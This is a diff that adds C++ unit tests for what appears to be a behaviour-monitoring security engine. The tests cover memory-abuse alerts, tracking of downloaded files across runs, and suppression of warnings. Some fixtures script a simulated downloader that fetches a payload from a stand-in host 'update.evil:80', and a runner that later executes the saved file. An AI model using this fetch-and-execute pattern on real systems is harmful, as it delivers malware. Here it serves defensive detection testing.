@@ -1,0 +1,254 @@
+/**
+ * @file
+ * Tests for the §10 future-work extensions implemented on top of
+ * the base policy: memory-abuse accounting (#4), cross-session
+ * downloaded-file tracking (#5/#6) and user-feedback warning
+ * suppression (#8) — plus end-to-end scenarios exercising them.
+ */
+
+#include <gtest/gtest.h>
+
+#include "core/Hth.hh"
+#include "secpert/Secpert.hh"
+#include "workloads/GuestLib.hh"
+
+using namespace hth;
+using namespace hth::secpert;
+using namespace hth::workloads;
+using harrier::ResourceAccessEvent;
+using harrier::ResourceIoEvent;
+using taint::SourceType;
+
+namespace
+{
+
+ResourceAccessEvent
+brkEvent(uint64_t amount)
+{
+    ResourceAccessEvent ev;
+    ev.ctx.pid = 1;
+    ev.syscall = "SYS_brk";
+    ev.amount = amount;
+    return ev;
+}
+
+} // namespace
+
+//
+// Memory abuse (#4)
+//
+
+TEST(MemoryAbuse, WarnsOnceWhenCrossingThreshold)
+{
+    PolicyConfig cfg;
+    cfg.maxHeapGrowth = 1000;
+    Secpert s(cfg);
+    s.onResourceAccess(brkEvent(600));
+    EXPECT_TRUE(s.warnings().empty());
+    s.onResourceAccess(brkEvent(600));      // total 1200 > 1000
+    ASSERT_EQ(s.warnings().size(), 1u);
+    EXPECT_EQ(s.warnings()[0].rule, "resource_abuse_memory");
+    EXPECT_EQ(s.warnings()[0].severity, Severity::Low);
+    s.onResourceAccess(brkEvent(600));      // already above: silent
+    EXPECT_EQ(s.warnings().size(), 1u);
+}
+
+TEST(MemoryAbuse, EndToEndHeapEater)
+{
+    HthOptions options;
+    options.policy.maxHeapGrowth = 0x100000;    // 1 MB
+    Hth hth(options);
+
+    Gasm a("/t/eater");
+    a.label("main");
+    a.entry("main");
+    a.movi(Reg::Ebp, 0);
+    a.label("eat");
+    a.movi(Reg::Ebx, 0);
+    a.sysc(os::NR_brk);
+    a.mov(Reg::Ebx, Reg::Eax);
+    a.movi(Reg::Ecx, 0x80000);      // +512 KB per round
+    a.add(Reg::Ebx, Reg::Ecx);
+    a.sysc(os::NR_brk);
+    a.addi(Reg::Ebp, 1);
+    a.cmpi(Reg::Ebp, 4);
+    a.jl("eat");
+    a.exit(0);
+    auto image = a.build();
+    hth.kernel().vfs().addBinary(image->path, image);
+    Report report = hth.monitor(image->path, {image->path});
+    EXPECT_EQ(report.countByRule("resource_abuse_memory"), 1u);
+}
+
+//
+// Downloaded-file tracking (#5 / #6)
+//
+
+TEST(DownloadTracking, ExecOfDownloadedFileIsHigh)
+{
+    Secpert s;
+
+    ResourceIoEvent dl;
+    dl.ctx.pid = 1;
+    dl.syscall = "SYS_write";
+    dl.isWrite = true;
+    dl.source.type = SourceType::Socket;
+    dl.source.name = "update.evil:80";
+    dl.targetName = "beagle.exe";
+    dl.targetType = SourceType::File;
+    dl.targetOrigins = {{SourceType::UserInput, "COMMAND_LINE"}};
+    s.onResourceIo(dl);
+    EXPECT_TRUE(s.warnings().empty());  // user-named target: quiet
+    EXPECT_EQ(s.env().factsByTemplate("downloaded_file").size(), 1u);
+
+    ResourceAccessEvent ex;
+    ex.ctx.pid = 1;
+    ex.syscall = "SYS_execve";
+    ex.resName = "beagle.exe";
+    ex.resType = SourceType::File;
+    ex.origins = {{SourceType::UserInput, "COMMAND_LINE"}};
+    s.onResourceAccess(ex);
+    ASSERT_EQ(s.warnings().size(), 1u);
+    EXPECT_EQ(s.warnings()[0].rule, "exec_downloaded");
+    EXPECT_EQ(s.warnings()[0].severity, Severity::High);
+}
+
+TEST(DownloadTracking, UnrelatedExecNotFlagged)
+{
+    Secpert s;
+    ResourceIoEvent dl;
+    dl.ctx.pid = 1;
+    dl.syscall = "SYS_write";
+    dl.isWrite = true;
+    dl.source.type = SourceType::Socket;
+    dl.targetName = "beagle.exe";
+    dl.targetType = SourceType::File;
+    s.onResourceIo(dl);
+
+    ResourceAccessEvent ex;
+    ex.ctx.pid = 1;
+    ex.syscall = "SYS_execve";
+    ex.resName = "/bin/other";
+    ex.resType = SourceType::File;
+    ex.origins = {{SourceType::UserInput, "COMMAND_LINE"}};
+    s.onResourceAccess(ex);
+    EXPECT_TRUE(s.warnings().empty());
+}
+
+TEST(DownloadTracking, SurvivesAcrossMonitoredRuns)
+{
+    // Stage 1: a downloader fetches a payload to disk. Stage 2 (a
+    // separate execution under the same HTH session) runs it. The
+    // cross-session memory connects the two — the §10 scenario
+    // "when data is downloaded to a file we will be able to see how
+    // that file is being used in later executions".
+    Hth hth;
+    os::Kernel &k = hth.kernel();
+    k.net().addHost("update.evil");
+    os::RemotePeer server;
+    server.name = "update.evil:80";
+    server.onConnect = [](os::RemoteConn &c) {
+        c.send("payload-image-bytes");
+    };
+    k.net().addRemoteServer("update.evil:80", server);
+
+    Gasm d("/t/downloader");
+    d.dataString("site", "update.evil:80");
+    d.dataSpace("argv_slot", 4);
+    d.dataSpace("buf", 64);
+    d.label("main");
+    d.entry("main");
+    d.leaSym(Reg::Edi, "argv_slot");
+    d.store(Reg::Edi, 0, Reg::Ebx);
+    d.sockCreate();
+    d.mov(Reg::Ebp, Reg::Eax);
+    d.leaSym(Reg::Edx, "site");
+    d.sockConnect(Reg::Ebp, Reg::Edx);
+    d.leaSym(Reg::Edx, "buf");
+    d.sockRecv(Reg::Ebp, Reg::Edx, 63);
+    d.mov(Reg::Edi, Reg::Eax);
+    d.leaSym(Reg::Edi, "argv_slot");
+    d.load(Reg::Ebx, Reg::Edi, 0);
+    d.loadArgv(1);                   // user names the landing file
+    d.creatReg(Reg::Eax);
+    d.mov(Reg::Esi, Reg::Eax);
+    d.mov(Reg::Ebx, Reg::Esi);
+    d.leaSym(Reg::Ecx, "buf");
+    d.movi(Reg::Edx, 19);
+    d.sysc(os::NR_write);
+    d.exit(0);
+    auto downloader = d.build();
+    k.vfs().addBinary(downloader->path, downloader);
+
+    Gasm r("/t/runner");
+    r.dataSpace("argv_slot", 4);
+    r.label("main");
+    r.entry("main");
+    r.loadArgv(1);
+    r.execveReg(Reg::Eax);
+    r.exit(0);
+    auto runner = r.build();
+    k.vfs().addBinary(runner->path, runner);
+
+    Report first = hth.monitor(downloader->path,
+                               {downloader->path, "tool.exe"});
+    EXPECT_FALSE(first.flagged(Severity::High));
+
+    Report second = hth.monitor(runner->path,
+                                {runner->path, "tool.exe"});
+    EXPECT_GT(second.countByRule("exec_downloaded"), 0u);
+    EXPECT_TRUE(second.flagged(Severity::High));
+}
+
+//
+// Warning suppression (#8)
+//
+
+TEST(Suppression, AcknowledgedWarningsDropped)
+{
+    Secpert s;
+    ResourceAccessEvent ev;
+    ev.ctx.pid = 1;
+    ev.ctx.time = 10;
+    ev.ctx.frequency = 5;
+    ev.syscall = "SYS_execve";
+    ev.resName = "/bin/ls";
+    ev.resType = SourceType::File;
+    ev.origins = {{SourceType::Binary, "/apps/mine"}};
+
+    s.onResourceAccess(ev);
+    ASSERT_EQ(s.warnings().size(), 1u);
+
+    s.suppress("check_execve", "/bin/ls");
+    s.onResourceAccess(ev);
+    EXPECT_EQ(s.warnings().size(), 1u);     // unchanged
+    EXPECT_EQ(s.stats().warningsSuppressed, 1u);
+
+    // A different resource still warns.
+    ev.resName = "/bin/other";
+    s.onResourceAccess(ev);
+    EXPECT_EQ(s.warnings().size(), 2u);
+}
+
+TEST(Suppression, EmptyMessagePatternMatchesRuleWide)
+{
+    Secpert s;
+    s.suppress("resource_abuse");
+    ResourceAccessEvent clone;
+    clone.ctx.pid = 1;
+    clone.syscall = "SYS_clone";
+    clone.isProcessCreate = true;
+    for (int i = 0; i < 40; ++i) {
+        clone.ctx.absTime = (uint64_t)i;
+        s.onResourceAccess(clone);
+    }
+    EXPECT_TRUE(s.warnings().empty());
+    EXPECT_GT(s.stats().warningsSuppressed, 0u);
+}
+
+int
+main(int argc, char **argv)
+{
+    ::testing::InitGoogleTest(&argc, argv);
+    return RUN_ALL_TESTS();
+}
